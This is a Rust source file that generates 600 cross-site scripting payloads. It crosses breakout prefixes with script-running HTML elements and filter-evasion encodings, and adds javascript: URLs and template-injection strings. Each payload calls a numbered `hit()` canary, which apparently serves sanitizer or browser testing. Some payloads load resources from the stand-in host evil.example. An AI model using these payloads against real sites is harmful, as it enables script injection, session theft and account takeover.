//! Six hundred texts that try to be obeyed by a browser, from a grammar of ways out, elements and encodings.
//! Each calls `hit(n)` with its own number, so that the one that got through can be named.

/// What may have to be left first: an attribute, a text element, a comment, a script, a JSON string.
const WAYS_OUT: [&str; 15] = [
    "",
    "\">",
    "'>",
    "\"'>",
    "--></title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</SCRIPT\t>",
    "</script/x>",
    "]]>",
    "</pre></span></summary></details>",
    "\"}]</script>",
    "<!--<script>",
    "</template></noscript>",
];

/// Elements that run something; `§` is the call.
const ELEMENTS: [&str; 20] = [
    "<script>§</script>",
    "<img src=x onerror=§>",
    "<img src=x onerror=\"§\">",
    "<svg onload=§>",
    "<svg><script>§</script></svg>",
    "<svg><animate onbegin=§ attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src onerror=§></style>",
    "<iframe srcdoc=\"<script>parent.§</script>\"></iframe>",
    "<details open ontoggle=§>x</details>",
    "<video><source onerror=§></video>",
    "<input autofocus onfocus=§>",
    "<body onpageshow=§>",
    "<marquee onstart=§>x</marquee>",
    "<a href=\"javascript:§\" autofocus onfocus=§>click</a>",
    "<form action=\"javascript:§\"><button autofocus onfocus=§>x</button></form>",
    "<object data=\"data:text/html,<script>parent.§</script>\"></object>",
    "<link rel=stylesheet href=//evil.example/x.css onerror=§>",
    "<meta http-equiv=refresh content=\"0;url=javascript:§\">",
    "<base href=//evil.example/><script src=x.js></script><script>§</script>",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/§)}</style>",
];

/// Other spellings of the same.
const ENCODINGS: [fn(&str) -> String; 8] = [
    |text| text.to_owned(),
    |text| text.replace('<', "&lt;").replace('>', "&gt;"),
    |text| text.replace('<', "&#x3c;"),
    |text| text.replace('<', "\\u003c").replace('>', "\\u003e"),
    |text| text.replace('<', "%3C").replace('>', "%3E"),
    |text| text.replace(' ', "/"),
    |text| {
        text.chars()
            .map(|c| if c == 's' { 'S' } else { c })
            .collect()
    },
    |text| format!("\u{202e}{text}\u{2028}\u{feff}"),
];

/// What is no element, but is code to some reader of texts.
const OTHERS: [&str; 24] = [
    "javascript:§",
    "JaVaScRiPt:§",
    "java\u{a0}script:§",
    "[click](javascript:§)",
    "![x](x\"onerror=\"§)",
    "<javascript:§>",
    "[x]: javascript:§",
    "```html\n<script>§</script>\n```",
    "{{{x}}}<script>§</script>",
    "{{#each this}}{{{@root}}}{{/each}}<script>§</script>",
    "{{> parts/head}}§",
    "{{lookup this \"constructor\"}}§",
    "{% raw %}{{ § }}{% endraw %}",
    "${§}",
    "`${§}`",
    "#{§}",
    "<%= § %>",
    "';§;//",
    "\";§;//",
    "\\\";§;//",
    "\u{2028}§\u{2028}",
    "*/§/*",
    "-->\n§\n<!--",
    "data:text/html,<script>§</script>",
];

/// All of them: the plain texts first, then ways out × elements, every other one in another spelling.
pub fn payloads() -> Vec<String> {
    let mut made: Vec<String> = OTHERS.iter().map(|it| (*it).to_owned()).collect();
    for (row, way) in WAYS_OUT.iter().enumerate() {
        for (column, element) in ELEMENTS.iter().enumerate() {
            made.push(format!("{way}{element}"));
            let spelled = ENCODINGS[1 + (row * 3 + column) % (ENCODINGS.len() - 1)];
            made.push(spelled(&format!("{way}{element}")));
        }
    }
    made.truncate(600);
    let numbered = made.iter().enumerate();
    numbered
        .map(|(at, text)| text.replace('§', &format!("hit({at})")))
        .collect()
}
